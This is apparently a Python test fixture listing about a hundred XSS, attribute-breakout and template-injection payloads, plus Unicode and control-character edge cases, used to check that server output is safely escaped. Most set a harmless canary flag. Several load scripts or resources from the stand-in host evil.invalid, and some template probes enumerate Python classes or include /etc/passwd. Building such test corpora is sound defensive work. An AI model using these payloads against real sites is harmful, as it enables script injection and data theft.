"""A hundred texts that a server may send to become more than text in a page."""

from __future__ import annotations

_LINES = r"""
<script>window.canary=1</script>
<ScRiPt>window.canary=1</sCrIpT>
<script src=//evil.invalid/x.js></script>
<script src="https://evil.invalid/x.js"></script>
</title><script>window.canary=1</script>
</style><script>window.canary=1</script>
</textarea><script>window.canary=1</script>
</pre><script>window.canary=1</script>
</code></pre></td></tr></table><script>window.canary=1</script>
</svg><script>window.canary=1</script>
</desc></svg><img src=x onerror=window.canary=1>
</text><script>window.canary=1</script>
</time><b onmouseover=window.canary=1>x</b>
<<script>window.canary=1//<</script>
<script/x>window.canary=1</script>
<script >window.canary=1</script >
<img src=x onerror=window.canary=1>
<img src="x" onerror="window.canary=1">
<img/src=`x`onerror=window.canary=1>
<img src=//evil.invalid/pixel>
<image href=//evil.invalid/pixel>
<video src=//evil.invalid/v autoplay onloadstart=window.canary=1>
<audio src=//evil.invalid/a autoplay>
<source src=//evil.invalid/s>
<iframe src=//evil.invalid/></iframe>
<iframe srcdoc="<script>parent.canary=1</script>"></iframe>
<iframe src="javascript:parent.canary=1"></iframe>
<object data=//evil.invalid/o></object>
<embed src=//evil.invalid/e>
<link rel=stylesheet href=//evil.invalid/c.css>
<link rel=prefetch href=//evil.invalid/p>
<base href=//evil.invalid/>
<meta http-equiv=refresh content="0;url=//evil.invalid/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<form action=//evil.invalid/><input name=a><button autofocus onfocus=window.canary=1>
<input autofocus onfocus=window.canary=1>
<body onload=window.canary=1>
<html onclick=window.canary=1>
<details open ontoggle=window.canary=1>
<marquee onstart=window.canary=1>
<select autofocus onfocus=window.canary=1>
<svg onload=window.canary=1>
<svg><script>window.canary=1</script></svg>
<svg><animate onbegin=window.canary=1 attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=window.canary=1>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>
<svg><foreignObject><body onload=window.canary=1></foreignObject></svg>
<svg><a xlink:href="javascript:window.canary=1"><text>x</text></a></svg>
<svg><style>@import url(//evil.invalid/c.css)</style></svg>
<math><mtext><script>window.canary=1</script></mtext></math>
<math href="javascript:window.canary=1">x</math>
<style>@import '//evil.invalid/c.css';</style>
<style>*{background:url(//evil.invalid/b)}</style>
<div style="background:url(//evil.invalid/b)">x</div>
<p style=animation-name:x onanimationstart=window.canary=1>
<a href="javascript:window.canary=1">x</a>
<a href=//evil.invalid ping=//evil.invalid/ping>x</a>
<template><script>window.canary=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.canary=1>">
<plaintext>
<xmp><script>window.canary=1</script></xmp>
<!--
<!-- <script>window.canary=1</script> -->
--><script>window.canary=1</script>
--!><img src=x onerror=window.canary=1>
<![CDATA[<script>window.canary=1</script>]]>
]]><script>window.canary=1</script>
<?xml version="1.0"?><script>window.canary=1</script>
<!DOCTYPE html><script>window.canary=1</script>
<%= 7*7 %>
{{7*7}}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{% include '/etc/passwd' %}
{# a comment #}
${7*7}
#{7*7}
javascript:window.canary=1
JaVaScRiPt:window.canary=1
java&#09;script:window.canary=1
data:text/html,<script>window.canary=1</script>
vbscript:msgbox(1)
//evil.invalid/x
" onmouseover="window.canary=1
' onmouseover='window.canary=1
" autofocus onfocus="window.canary=1" x="
"><script>window.canary=1</script>
'><script>window.canary=1</script>
`><script>window.canary=1</script>
x onclick=window.canary=1 y=
" style="position:fixed;inset:0;background:red
" href="javascript:window.canary=1
https://evil.invalid/" onmouseover="window.canary=1
https://evil.invalid/<script>window.canary=1</script>
&lt;script&gt;window.canary=1&lt;/script&gt;
&#60;script&#62;window.canary=1&#60;/script&#62;
&lt;img src=x onerror=window.canary=1&gt;
&quot; onmouseover=&quot;window.canary=1
&NotAnEntity; &amp;amp; &
""".strip().splitlines()

_ODD = (
    "\x00<script>window.canary=1</script>",
    "<scr\x00ipt>window.canary=1</scr\x00ipt>",
    "\u202egpj.exe\u2066 <b>turned</b> \u2069\u202c",
    "\u2028<script>\u2029window.canary=1</script>",
    "\ud83d<script>window.canary=1</script>\udc00",
    "\x1b]8;;https://evil.invalid\x07<b>x</b>\x1b[2J",
    "\ufeff\u200b\u200f<b>hidden</b>\u2060",
    "<b>one</b>\r\n<b>two</b>\n\n<b>three</b>\x0b\x0c\x85",
    "\uff1cscript\uff1ewindow.canary=1\uff1c/script\uff1e",
)

PAYLOADS = (*_LINES, *_ODD)


def name_of(payload: str) -> str:
    """An id for a parametrized case."""
    return ascii(payload[:40])[1:-1]
